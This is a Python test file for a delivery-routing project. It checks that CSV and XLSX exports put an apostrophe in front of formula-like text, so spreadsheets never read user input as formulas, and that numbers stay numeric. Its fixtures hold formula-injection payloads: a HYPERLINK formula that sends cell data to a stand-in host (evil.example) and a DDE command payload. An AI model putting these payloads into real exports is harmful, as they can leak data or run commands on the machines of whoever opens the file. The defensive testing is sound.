"""Exports never hand a spreadsheet a formula made of user text; numbers stay numbers.

The rule (``routing.export.spreadsheet_text``): text starting with ``= + - @``, a tab or a
carriage return gets a leading apostrophe, in CSV and XLSX alike.
"""

from __future__ import annotations

import csv
from dataclasses import replace
from typing import TYPE_CHECKING

import openpyxl
import pandas as pd
import pytest

from routing.export import FORMULA_STARTS, spreadsheet_text, write_outputs
from routing.model import TimeWindow
from routing.planner import PlanOptions, plan_day
from routing.reports import export_csv, export_xlsx
from routing.scenario import make_day

if TYPE_CHECKING:
    from pathlib import Path

    from geodata.compact import CompactGraph
    from geodata.synthetic import SyntheticProvince

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"bấm vào")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    """Each dangerous start is quoted; the text itself is kept after the apostrophe."""
    assert text.startswith(FORMULA_STARTS)
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Nguyễn Văn A", "12 Lê Lợi", "", "a=b", "'=1", None, -5, -2.5, 0]
)
def test_other_values_are_unchanged(value: object) -> None:
    """Plain text, numbers (negative ones too) and None are written as they are."""
    assert spreadsheet_text(value) == value
    assert type(spreadsheet_text(value)) is type(value)


def hostile_frame() -> pd.DataFrame:
    """A report table: text keys in the index and a text column, numbers with negatives."""
    return pd.DataFrame(
        {
            "courier_id": HOSTILE,
            "delay_min": [-5, 3, -1, 0, 7, -12],
            "share": [-0.25, 0.5, 0.1, 0.0, 1.0, -1.5],
        },
        index=pd.Index(HOSTILE, name="depot_id"),
    )


def test_csv_export_reads_back_as_text(tmp_path: Path) -> None:
    """The CSV of a report table holds quoted text and plain numbers (what the API sends)."""
    path = tmp_path / "groups.csv"
    path.write_text(export_csv(hostile_frame().reset_index()), encoding="utf-8", newline="")
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["depot_id"] for r in rows] == ["'" + t for t in HOSTILE]
    assert [r["courier_id"] for r in rows] == ["'" + t for t in HOSTILE]
    assert [float(r["delay_min"]) for r in rows] == [-5, 3, -1, 0, 7, -12]
    assert rows[0]["share"] == "-0.25"  # a negative number is not quoted


def test_xlsx_export_has_no_formula_cells(tmp_path: Path) -> None:
    """Every sheet's text cells are strings (never formulas); numbers stay numeric cells."""
    path = export_xlsx({"groups": hostile_frame()}, tmp_path / "report.xlsx")
    sheet = openpyxl.load_workbook(path)["groups"]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds
    for row, text in zip(rows, HOSTILE, strict=True):
        depot, courier, delay, share = row[:4]
        assert depot.data_type == "s"
        # XML keeps no bare carriage return: it reads back as a line feed.
        assert depot.value == "'" + text.replace("\r", "\n")
        assert courier.value == "'" + text.replace("\r", "\n")
        assert delay.data_type == "n"
        assert share.data_type == "n"
    assert [r[2].value for r in rows] == [-5, 3, -1, 0, 7, -12]
    assert rows[0][3].value == -0.25


def test_itineraries_and_unassigned_quote_formula_text(
    province: SyntheticProvince, province_graph: CompactGraph, tmp_path: Path
) -> None:
    """The planned day's CSV files quote formula-like recipients, addresses, notes and ids."""
    problem = make_day(province, n_jobs=8, n_couriers=2, seed=5, impossible=False).problem
    jobs = [
        replace(
            j,
            recipient=HOSTILE[i % 6],
            address=HOSTILE[(i + 1) % 6],
            note=HOSTILE[(i + 2) % 6],
        )
        for i, j in enumerate(problem.jobs)
    ]
    # One job that no courier can reach in time, for the unassigned file.
    late = replace(jobs[0], job_id="=cmd|' /C calc'!A0", pair_id=None, windows=(TimeWindow(0, 60),))
    problem = replace(problem, jobs=(*jobs, late))
    day = plan_day(problem, province_graph, options=PlanOptions(time_limit_s=1, workers=1))
    paths = write_outputs(day, tmp_path / "out")

    cells: list[str] = []
    numbers: list[str] = []
    for name, path in paths.items():
        if path.suffix != ".csv":
            continue
        with path.open(newline="", encoding="utf-8-sig") as fh:
            for row in csv.DictReader(fh):
                cells += row.values()
                numbers += [v for k, v in row.items() if "lon" in k or "lat" in k]
        assert name
    assert cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE[0] in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert all(float(n) for n in numbers)  # coordinates stay plain numbers
